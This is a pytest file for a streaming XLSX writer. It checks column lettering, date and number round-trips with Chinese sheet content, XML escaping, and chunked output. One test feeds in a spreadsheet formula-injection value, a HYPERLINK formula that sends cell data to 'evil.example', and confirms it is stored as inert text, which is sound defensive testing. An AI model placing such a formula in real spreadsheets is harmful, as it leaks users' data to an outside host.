"""The streamed XLSX writer (`supervision.xlsx`), as plain Python: what a spreadsheet reads
back from it, and that it hands out the file while it is still reading rows."""

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from supervision import xlsx


def read(pieces) -> bytes:
    return b"".join(pieces)


@pytest.mark.parametrize(
    ("index", "letters"), [(0, "A"), (13, "N"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")]
)
def test_column_letters(index, letters):
    assert xlsx.column_letters(index) == letters


def test_a_spreadsheet_reads_back_text_dates_numbers_and_empty_cells():
    rows = [
        ["工号", "姓名", "发证", "时间", "数量", "比例", "是否"],
        ["E001", "林晓雯", date(2026, 11, 30), datetime(2026, 11, 30, 8, 30), 3, 0.5, True],
        ["E002", "", None, None, 0, -1.25, False],
        ["E003", "  前后有空格 ", date(1900, 3, 1), None, "", "", ""],
    ]
    sheet = load_workbook(io.BytesIO(read(xlsx.stream(rows, sheet_name="前台认证")))).active
    assert sheet.title == "前台认证"
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == rows[0]
    assert values[1] == [
        "E001",
        "林晓雯",
        datetime(2026, 11, 30),
        datetime(2026, 11, 30, 8, 30),
        3,
        0.5,
        True,
    ]
    assert values[2] == ["E002", None, None, None, 0, -1.25, False]
    assert values[3][:3] == ["E003", "  前后有空格 ", datetime(1900, 3, 1)]
    assert sheet["C2"].number_format == "yyyy-mm-dd"  # shown as a date, not a number


def test_text_is_never_a_formula_or_an_error_and_xml_is_escaped():
    rows = [['=HYPERLINK("http://evil.example/?"&A1;"click")', "#N/A", "<b>&amp;</b>", "a\x07b"]]
    data = read(xlsx.stream(rows, sheet_name="x"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml
    cells = load_workbook(io.BytesIO(data)).active[1]
    assert [c.value for c in cells] == [rows[0][0], "#N/A", "<b>&amp;</b>", "ab"]
    assert all(c.data_type == "s" for c in cells)


def test_a_sheet_name_with_xml_characters():
    data = read(xlsx.stream([["a"]], sheet_name='A&B "前台" <1>'))
    assert load_workbook(io.BytesIO(data)).active.title == 'A&B "前台" <1>'


def test_pieces_leave_while_rows_are_still_being_read():
    read_so_far = []

    def rows():
        for n in range(5 * xlsx.ROWS_PER_CHUNK):
            read_so_far.append(n)
            yield [f"E{n:05d}", "林晓雯", date(2026, 1, 1)]

    pieces = xlsx.stream(rows(), sheet_name="x")
    first = next(pieces)
    assert first.startswith(b"PK") and len(read_so_far) < 5 * xlsx.ROWS_PER_CHUNK
    data = first + read(pieces)
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows()) == 5 * xlsx.ROWS_PER_CHUNK
